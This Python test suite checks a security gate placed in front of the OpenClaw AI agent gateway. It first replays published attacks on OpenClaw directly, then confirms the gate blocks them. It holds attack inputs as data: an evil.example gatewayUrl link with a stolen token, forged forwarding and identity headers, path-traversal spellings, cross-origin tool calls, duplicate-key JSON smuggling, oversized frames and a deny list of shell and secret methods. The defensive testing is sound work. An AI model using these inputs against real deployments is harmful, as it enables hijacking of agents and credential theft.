"""
What was published about OpenClaw, tried at the gate in front of a real one.

Each test first shows the same attack without the gate, by whoever stands at OpenClaw's own port with its password, as far as it
still works.
"""

from __future__ import annotations

import json
import struct
import time
from collections.abc import Callable

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from tests.integration.answers import Answer
from tests.integration.claw_ways import LOCAL, MINE, SCRIPT, SECOND, THEIRS, ClawWays, Socket
from tests.integration.ways_in import SPOOFED, UNDERSCORED
from tools.demo.check.browser import Closed


def _words(text: str) -> list[str]:
    return text.split()


_TOOL = json.dumps({"tool": "sessions_list", "args": {}}).encode()
_WRONG = "wrong-password-wrong-password-wrong-password"
_FORWARDED = tuple(
    f"{name}: {value}"
    for name, value in (
        ("X-Forwarded-For", "203.0.113.7"),
        ("X-Forwarded-For", "127.0.0.1, 203.0.113.7"),
        ("x-forwarded-for", "127.0.0.1"),
        ("X-FORWARDED-FOR", "::1"),
        ("X-Forwarded-For", ""),
        ("X-Forwarded-Host", "x.ts.net"),
        ("X-Forwarded-Proto", "https"),
        ("Forwarded", "for=203.0.113.7;proto=https"),
        ("forwarded", 'for="[::1]"'),
        ("X-Real-IP", "203.0.113.7"),
        ("X-REAL-IP", "127.0.0.1"),
    )
)
_SPELLINGS = _words(
    "/API/channels /Api/channels /api%2fchannels /api%2Fchannels /api%252fchannels /api%25252fchannels /api%5cchannels"
    " //api/channels /./api/channels /x/../api/channels /%2e/api/channels /%2e%2e/api/channels /api;x/channels /api/channels;x"
    " /api/./channels /api//channels /chat/..%2f..%2fapi/channels /chat/../api/channels /assets/../api/channels"
    " /assets/%2e%2e/api/channels /%61pi/channels /TOOLS/invoke /tools%2finvoke //tools/invoke /%74ools/invoke /tools/invoke/"
    " /V1/models /%76%31/models /plugins/..%2fapi/channels"
)
_ROUTES = _words(
    "/api/channels /api/v1/admin/rpc /api/v1/beam/sessions /hooks/wake /hooks/agent /webhook /webhooks/x /slack/events /telegram-webhook"
    " /googlechat /__openclaw__/worker /__openclaw__/worker-bundle /__openclaw__/canvas/documents/x/index.html"
    " /__openclaw__/a2ui/ /__openclaw__/board/x /share/session?token=x /desktop/observe?token=x /v1/models /v1/chat/completions"
    " /v1/responses /tools/invoke /mcp/x /readyz /healthz"
)


class RequestTests(ClawWays):
    """Ordinary requests."""

    def statuses(self, ways: tuple[str, ...] | list[str], ask: Callable[[str], Answer]) -> set[int]:
        """What these are answered with."""
        return {ask(way).status for way in ways}

    def test_gateway_url(self) -> None:
        """A link with another gateway and a token (CVE-2026-25253): the address goes on without, and the page connects home alone."""
        link = "/?gatewayUrl=wss://evil.example/&token=stolen-token"
        policies = [value for name, value in self.straight("GET", link).fields if name == b"content-security-policy"]
        self.assertTrue(any(b" wss: " in policy or b" wss:;" in policy for policy in policies), policies)
        visit = ("Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: navigate", "Sec-Fetch-Dest: document", "Accept: text/html")
        self.nothing_arrives(lambda: self.assertEqual(self.through("GET", link, *visit).value(b"location"), b"/"))
        answer = self.through("GET", link)
        policies = [value for name, value in answer.fields if name == b"content-security-policy"]
        rules = {rule.strip() for rule in b";".join(policies).split(b";") if b"connect-src" in rule}
        self.assertEqual(rules, {b"connect-src 'self' wss://%b data:" % self.host().encode()})
        for word in (b"evil.example", b"stolen-token"):
            self.assertNotIn(word, bytes(answer.body))
            self.assertNotIn(word, self.house.tap.everything)

    def test_identity_fields(self) -> None:
        """Fields in which proxies write who asks (CVE-2026-53821, -53832, -32045) stop at the gate."""
        more = (
            "Tailscale-User-Login: a@b.example", "Tailscale-User-Name: alice", "TAILSCALE-HEADERS-INFO: x",
            "x-openclaw-scopes: operator.read", "X-OpenClaw-Model: x", "X-OpenClaw-Session-Key: main", "X-OpenClaw-Agent-Id: main",
        )  # fmt: skip
        fields = [one for one in (*SPOOFED, *more) if not one.lower().startswith(("user-agent", "via:"))]
        self.assertEqual(self.straight("GET", "/control-ui-config.json", more[0]).status, 403)  # OpenClaw does look at them
        names = {one.partition(":")[0].lower().encode() for one in fields}
        for at in range(0, len(fields), 16):
            some = fields[at : at + 16]
            self.assertEqual(self.through("GET", "/control-ui-config.json", *some).status, 200)
            socket = self.through_socket(*some)
            self.assertEqual(socket.status, 101)
            socket.cut()
        for field in UNDERSCORED:
            if field.startswith("User_Agent"):  # says nothing about who asks
                continue
            self.through("GET", "/control-ui-config.json", field)
        arrived = self._names()
        self.assertIn(b"origin", arrived)
        self.assertEqual(arrived & (names - {b"authorization"}), set())
        self.assertEqual([name for name in arrived if b"_" in name], [])
        self.assertNotIn(b"Basic ", self.house.tap.everything)

    def _names(self) -> set[bytes]:
        """The names of all fields that reached OpenClaw."""
        lines = [line for one in self.house.tap.said for line in bytes(one).split(b"\r\n")]
        return {line.partition(b":")[0].lower() for line in lines if b": " in line[:60]}

    def test_forwarded(self) -> None:
        """A forged address in any spelling (CVE-2026-35656, and proxies that were taken for local): none of it gets to OpenClaw."""
        path = "/control-ui-config.json"
        real = [one for one in _FORWARDED if not one.endswith(": ")]
        self.assertEqual(self.statuses(real, lambda field: self.straight("GET", path, field)), {403})
        self.assertEqual(self.statuses(_FORWARDED, lambda field: self.through("GET", path, field)), {200})
        self.assertEqual(self.through("GET", path, *_FORWARDED[:3]).status, 200)
        self.assertEqual(self.through("GET", path, _FORWARDED[0], "Connection: X-Forwarded-For").status, 200)
        for word in (b"orwarded", b"FORWARDED", b"eal-ip", b"EAL-IP", b"203.0.113.7", b"ts.net"):
            self.assertNotIn(word, self.house.tap.everything)

    def test_hosts(self) -> None:
        """A host that OpenClaw takes for local, in any form: OpenClaw is asked for one constant host, or not at all."""
        path = "/control-ui-config.json"
        for host in ("x.ts.net", "10.0.0.5:18789", "evil.local"):
            self.assertEqual(self.straight("GET", path, host=host).status, 200)
            self.nothing_arrives(lambda host=host: self.assertEqual(self.through("GET", path, host=host).status, 421))  # type: ignore[misc]
        target = f"http://x.ts.net{path}"
        self.assertEqual(self.straight("GET", target, host="x.ts.net").status, 200)
        self.nothing_arrives(lambda: self.assertIn(self.through("GET", target).status, (400, 421)))
        self.nothing_arrives(lambda: self.assertEqual(self.through("GET", path, "Host: x.ts.net").status, 400))
        self.nothing_arrives(lambda: self.assertEqual(self.through("GET", path, "host: " + self.host()).status, 400))
        self.assertEqual(self.through("GET", path).status, 200)
        hosts = {line.lower() for line in self.house.tap.everything.split(b"\r\n") if line.lower().startswith(b"host:")}
        self.assertEqual(hosts, {f"host: {LOCAL}".encode()})

    def test_spellings(self) -> None:
        """Another spelling of an address that the gate does not let through (CVE-2026-32004 and before): none arrives."""
        arriving = [path for path in _SPELLINGS if self.straight("GET", path).status in (200, 404, 405)]
        self.assertGreater(len(arriving), 20)
        self.nothing_arrives(lambda: self.assertLessEqual(self.statuses(_SPELLINGS, lambda path: self.through("GET", path)), {400, 404}))

    def test_routes(self) -> None:
        """Routes of plugins, webhooks, workers, shares and admins (CVE-2026-41394): not there, by any method."""
        self.assertEqual(self.straight("GET", "/api/channels", bearer=False).status, 401)
        self.assertEqual(self.straight("GET", "/api/channels").status, 404)  # the channels' own answer, to the password

        def tried() -> None:
            for path in _ROUTES:
                self.assertEqual(self.through("GET", path).status, 404, path)
                for method in ("POST", "PUT", "DELETE", "PATCH"):
                    fields = (f"Origin: {self.house.sandbox(THEIRS)}", *SCRIPT)
                    self.assertIn(self.through(method, path, *fields, body=b"{}").status, (404, 405), path)

        self.nothing_arrives(tried)

    def test_plugin_below_a_page(self) -> None:
        """A plugin's own route below an address of the UI (CVE-2026-41394): the gate asks for the UI's document instead."""
        self.assertEqual(self.straight("GET", "/plugins/geolocation", bearer=False).status, 401)
        self.assertEqual(self.straight("GET", "/plugins/geolocation").status, 404)  # the plugin's answer, to the password
        documents = {bytes(self.straight("GET", path).body) for path in ("/", "/index.html", "/chat/main", "/settings/about")}
        self.assertEqual(len(documents), 1)
        answer = self.through("GET", "/plugins/geolocation?x=1")
        self.assertEqual(answer.status, 200)
        self.assertIn(b"data-openclaw-control-ui-build-id", bytes(answer.body))
        self.assertNotIn(b"geolocation", self.house.tap.everything)

    def test_forged_tool_calls(self) -> None:
        """A page that has a visitor's browser call tools or a model with the gate's credential (GHSA-943q-mwmv-hhvh): nothing is called."""
        for origin in ("https://evil.example", "null"):
            answer = self.straight("POST", "/tools/invoke", "Content-Type: text/plain", f"Origin: {origin}", body=_TOOL)
            self.assertEqual(answer.status, 200)
            self.assertIn(b'"ok":true', bytes(answer.body))

        def tried() -> None:
            for path in ("/tools/invoke", "/v1/chat/completions", "/v1/responses", "/v1/models"):
                for kind in ("text/plain", "application/json", "application/x-www-form-urlencoded"):
                    for origin in ("https://evil.example", "null", self.house.portal, self.house.sandbox(MINE), self.house.sandbox(THEIRS)):
                        answer = self.through("POST", path, f"Content-Type: {kind}", f"Origin: {origin}", *SCRIPT, body=_TOOL)
                        self.assertIn(answer.status, (403, 404))
                self.assertIn(self.through("POST", path, "Content-Type: text/plain", body=_TOOL).status, (403, 404))

        self.nothing_arrives(tried)

    def test_written_pages_of_others(self) -> None:
        """An address of one person's canvas, with another's session or none (CVE-2026-3690, GHSA-cjv3-m589-v3rx): nobody gets anything."""
        _, hello = self.straight_page()
        path = hello["pluginSurfaceUrls"]["canvas"].removeprefix(f"http://{LOCAL}") + "/__openclaw__/canvas/"
        self.assertNotEqual(self.straight("GET", path, bearer=False).status, 401)  # the address alone is what lets in
        others = [("", (401,)), (self.guest("alice", MINE), (401,)), (self.guest(), (404,))]
        for target in (path, path.upper(), "/__openclaw__/canvas/documents/x/index.html"):
            for cookie, statuses in others:

                def tried(target: str = target, cookie: str = cookie, statuses: tuple[int, ...] = statuses) -> None:
                    self.assertIn(self.through("GET", target, cookie=cookie).status, statuses)

                self.nothing_arrives(tried)


class UpgradeTests(ClawWays):
    """What opens a WebSocket."""

    def test_origins(self) -> None:
        """A page of another site that guesses the password ("ClawJacked"): it gets no connection to OpenClaw to guess on."""
        for origin in ("https://evil.example", "null", None):
            self.assertEqual(self.straight_socket(origin=origin).told()["event"], "connect.challenge")
        guess = self.connect(key=None, client="gateway-client", mode="backend", auth={"password": _WRONG})
        refused = guess.to(self.straight_socket(origin=None))
        self.assertEqual(refused["error"]["details"]["code"], "AUTH_PASSWORD_MISMATCH")
        guess.auth = self.password
        self.assertTrue(guess.to(self.straight_socket(origin=None))["ok"])
        cookie = self.fresh_guest()
        ticket = self.ticket(cookie)
        foreign = (
            "https://evil.example",
            "null",
            "",
            self.house.portal,
            self.house.sandbox(MINE),
            f"http://{LOCAL}",
            f"http://{self.host()}",
        )

        def tried() -> None:
            for origin in foreign:
                for _ in range(4):
                    self.assertEqual(self.upgrade(cookie, f"Origin: {origin}", self.offer(ticket)), 403, origin)
            self.assertEqual(self.upgrade(cookie, self.offer(ticket)), 403)

        self.nothing_arrives(tried)

    def upgrade(self, *fields: str, path: str = "/") -> int:
        """How an upgrade is answered."""
        return Socket(self.house.plain_port, self.host(), *fields, path=path).status

    def test_nobody(self) -> None:
        """Who has no session, another sandbox's, or no ticket, is turned away before OpenClaw hears of it."""
        self.assertEqual(self.straight_socket().status, 101)
        own = f"Origin: {self.house.sandbox(THEIRS)}"
        ticket = self.offer(self.ticket())

        def tried() -> None:
            self.assertEqual(self.upgrade(own, ticket), 401)
            self.assertEqual(self.upgrade(own, self.guest("alice", MINE), ticket), 401)
            self.assertEqual(self.upgrade(own, "Authorization: Bearer " + self.house.claw.password, ticket), 401)
            self.assertEqual(self.upgrade(own, self.guest(), "Sec-WebSocket-Protocol: coral.v1"), 403)
            self.assertEqual(self.upgrade(own, self.guest(), self.offer("x" * 43)), 403)

        self.guest(), self.guest("alice", MINE)  # a hand-off asks for the sandbox's page
        self.nothing_arrives(tried)

    def test_paths(self) -> None:
        """OpenClaw takes a WebSocket at any path; through the gate there is one."""
        own = f"Origin: {self.house.sandbox(THEIRS)}"
        for path in ("/foo", "/healthz", "/assets/x", "/chat/main", "/sw.js"):
            self.assertEqual(self.straight_socket(path=path).status, 101, path)
        cookie = self.fresh_guest()
        ticket = self.offer(self.ticket(cookie))

        def tried() -> None:
            for path in (
                "/foo",
                "/healthz",
                "/assets/x",
                "/chat/main",
                "/sw.js",
                "/desktop/observe?token=x",
                "/__openclaw__/worker",
                "//",
                "/%2f",
            ):
                self.assertIn(self.upgrade(own, cookie, ticket, path=path), (400, 401, 403, 404), path)

        self.nothing_arrives(tried)
        self.assertEqual(self.upgrade(own, cookie, ticket), 101)

    def test_half_open(self) -> None:
        """Connections that are opened and say nothing (CVE-2026-32062): a session gets a bounded number, and they end."""
        cookie = self.fresh_guest()
        sockets: list[Socket] = []
        for _ in range(80):
            answer = self.asked_ticket(cookie)
            if answer.status != 200:
                break
            own = f"Origin: {self.house.sandbox(THEIRS)}"
            offer = self.offer(json.loads(bytes(answer.body))["ticket"])
            socket = Socket(self.house.plain_port, self.host(), cookie, own, offer)
            self.addCleanup(socket.cut)
            if socket.status != 101:
                break
            sockets.append(socket)
        self.assertGreater(len(sockets), 2)
        self.assertLessEqual(len(sockets), 32)
        self.assertLessEqual(sum(b"Upgrade: websocket" in bytes(one) for one in self.house.tap.said), 33)
        began = time.monotonic()
        for socket in sockets:
            with self.assertRaises(Closed):
                while True:
                    socket.receive()
        self.assertLess(time.monotonic() - began, 45)
        self.assertEqual(self.page()[1]["type"], "hello-ok")


class MessageTests(ClawWays):
    """What is said on a WebSocket."""

    def test_before_connect(self) -> None:
        """A request before the connect (CVE-2026-25593): OpenClaw does not see it; after the connect it is refused."""
        straight, _ = self.straight_page()
        self.assertIn("must have required property", straight.answer("config.apply", {})["error"]["message"])
        for method in ("config.apply", "config.patch", "config.set", "chat.send"):
            socket = self.through_socket()
            socket.told()
            closed = self.assertRaises(Closed, socket.answer, method, {"raw": "{}"})
            self.assertEqual(closed.code, 1008)
        page, _ = self.page()
        for method in ("config.apply", "config.patch", "config.set"):
            self.assertEqual(page.answer(method, {"raw": "{}"})["error"]["message"], f"blocked by the gate: {method}")
        self.assertTrue(page.answer("config.get", {})["ok"])
        said = b"".join(self.house.tap.messages())
        self.assertIn(b"config.get", said)
        for word in (b"config.apply", b"config.patch", b"config.set", b"chat.send"):
            self.assertNotIn(word, said)

    def test_device_token(self) -> None:
        """A device token, real or bogus: OpenClaw lets in with a real one alone; the gate gives out none and takes none."""
        key = Ed25519PrivateKey.generate()
        _, hello = self.straight_page(key=key)
        token = hello["auth"]["deviceToken"]
        with_it = {"key": key, "signed": token, "auth": {"deviceToken": token}}
        self.assertTrue(self.connect(**with_it).to(self.straight_socket())["ok"])
        for value in (token, "bogus-device-token", ""):
            for name in ("deviceToken", "token", "bootstrapToken"):
                for more in ({}, {"password": _WRONG}, self.password):
                    socket = self.through_socket()
                    connect = self.connect(key=key, signed=value, auth={name: value, **more})
                    self.assertFalse(connect.to(socket)["ok"])
                    self.assertEqual(self.assertRaises(Closed, socket.receive).code, 1008)
        self.assertEqual(self.house.tap.messages(), [])
        _, hello = self.page(auth={"password": _WRONG, "deviceTokens": {"operator": token}})
        self.assertEqual(set(hello["auth"]), {"method", "role", "scopes"})
        self.assertNotIn(token.encode(), self.house.tap.everything)
        self.assertNotIn(_WRONG.encode(), self.house.tap.everything)

    def test_hello(self) -> None:
        """OpenClaw's welcome holds a device token and a digest to guess the password by; the gate's holds neither, and no path."""
        _, straight = self.straight_page()
        self.assertLessEqual({"deviceToken", "recoveryScope"}, set(straight["auth"]))
        self.assertIn("stateDir", straight["snapshot"])
        _, hello = self.page()
        self.assertEqual(set(hello["auth"]), {"method", "role", "scopes"})
        told = json.dumps(hello)
        for word in ("deviceToken", "recoveryScope", "recoveryMigration", "configPath", "stateDir", LOCAL):
            self.assertNotIn(word, told)

    def test_self_declared(self) -> None:
        """A client that says it is something else or may do more (GHSA-rqpp-rjj8-7wv8), a node among them: it does not get to OpenClaw."""
        claims: list[dict[str, object]] = [
            {"key": None, "client": "gateway-client", "mode": "backend"},
            {"key": None, "client": "cli", "mode": "cli"},
            {"client": "node-host", "mode": "node", "role": "node", "scopes": ()},
        ]
        for claim in claims:
            hello = self.connect(auth=self.password, **claim).to(self.straight_socket(origin=None))
            self.assertTrue(hello["ok"], hello)
        claims += [{"role": "node"}, {"role": "admin"}, {"scopes": ("operator.talk.secrets",)}, {"scopes": ("node.exec",)}]
        claims += [{"more": {"role": ["operator"]}}, {"more": {"scopes": "operator.admin"}}, {"more": {"client": "cli"}}]
        for claim in claims:
            socket = self.through_socket()
            self.assertFalse(self.connect(**claim).to(socket)["ok"], claim)
            self.assertEqual(self.assertRaises(Closed, socket.receive).code, 1008)
        self.assertEqual(self.house.tap.messages(), [])

    def test_methods(self) -> None:
        """What makes credentials (GHSA-4jpw-hj22-2xmc), opens a shell or reads the environment: refused, and OpenClaw does not see it."""
        straight, _ = self.straight_page()
        self.assertTrue(straight.answer("device.pair.list", {})["ok"])
        self.assertIn("token", straight.answer("attach.grant", {})["payload"])
        self.assertIn("required property", straight.answer("device.token.rotate", {})["error"]["message"])
        self.assertEqual(straight.answer("terminal.open", {"cols": 80, "rows": 24})["error"]["message"], "terminal is disabled")
        page, hello = self.page()
        refused = _words(
            "device.token.rotate device.token.revoke device.pair.list device.pair.approve device.pair.reject device.pair.remove"
            " device.pair.setupCode node.pair.approve node.pair.request attach.grant terminal.open terminal.input tools.invoke"
            " node.invoke desktop.observe worker.connect secrets.resolve openclaw.chat cron.add exec.approvals.set update.run"
            " wizard.start"
        )
        for method in refused:
            self.assertEqual(page.answer(method, {})["error"]["message"], f"blocked by the gate: {method}")
        self.assertEqual(set(refused) & set(hello["features"]["methods"]), set())
        said = b"".join(self.house.tap.messages())
        for method in refused:
            self.assertNotIn(method.encode(), said)

    def test_two_readings(self) -> None:
        """A message that two readers read differently, to bring a refused method past the list: the connection ends."""
        for message in (
            '{"type":"req","id":"1","method":"health","method":"device.pair.list","params":{}}',
            '{"type":"req","id":"1","method":"health","params":{},"\\u006dethod":"device.pair.list"}',
            '{"type":"req","id":"1","method":"device.pair.list","params":{}}{"type":"req","id":"2","method":"health"}',
        ):
            page, _ = self.page()
            page.send(message)
            with self.assertRaises(Closed) as caught:
                while True:
                    self.assertNotIn("paired", page.receive())
            self.assertEqual(caught.exception.code, 1008)
        self.assertNotIn(b"device.pair.list", b"".join(self.house.tap.messages()))

    def test_long_frames(self) -> None:
        """A message of 24 MiB, which keeps OpenClaw busy for seconds: the gate ends the connection when it is announced."""
        straight, _ = self.straight_page()
        self.assertTrue(straight.answer("health", {"x": "x" * (9 << 20)})["id"])  # whatever it says: it has read it
        page, _ = self.page()
        before = len(self.house.tap.everything)
        page.raw(b"\x81\xff" + struct.pack(">Q", 24 << 20) + b"mask" + b"x" * 4096)
        with self.assertRaises(Closed) as caught:
            while True:
                page.receive()
        self.assertEqual(caught.exception.code, 1009)
        self.assertLess(len(self.house.tap.everything) - before, 1024)


class LockOutTests(ClawWays):
    """OpenClaw locks everybody out after ten wrong passwords."""

    def test_stale_password(self) -> None:
        """With a password at the gate that is not OpenClaw's, one attempt in all reaches OpenClaw, over WebSockets and HTTP."""
        elsewhere = "http://localhost:9"
        log, per_attempt = self.mismatches(), 0
        for _ in range(12):
            self.connect(auth={"password": _WRONG}).to(self.straight_socket(origin=elsewhere))
            per_attempt = per_attempt or self.mismatches() - log
        locked = self.connect(auth=self.password).to(self.straight_socket(origin=elsewhere))
        self.assertEqual(locked["error"]["details"]["code"], "AUTH_RATE_LIMITED")  # the right one too
        self.assertGreater(per_attempt, 0)
        self.house.give_password(SECOND, _WRONG)
        alice, before = self.fresh_guest("alice", SECOND), self.mismatches()
        socket = self.through_socket(cookie=alice, sandbox=SECOND)
        self.assertFalse(self.connect().to(socket)["ok"])
        for _ in range(14):
            self.assertEqual(self.through_socket(cookie=alice, sandbox=SECOND).status, 503)
            self.assertEqual(self.through("GET", "/control-ui-config.json", cookie=alice, host=self.host(SECOND)).status, 503)
        self.assertEqual(self.house.tap.everything.count(_WRONG.encode()), 1)
        self.assertEqual(self.mismatches() - before, per_attempt)
        self.assertEqual(self.page()[1]["type"], "hello-ok")  # nobody else is locked out

    def mismatches(self) -> int:
        """How many connections OpenClaw's log says it has refused."""
        time.sleep(0.5)  # it writes a little later
        return (self.house.claw.folder / "log").read_text(errors="replace").count("[ws] unauthorized conn=")
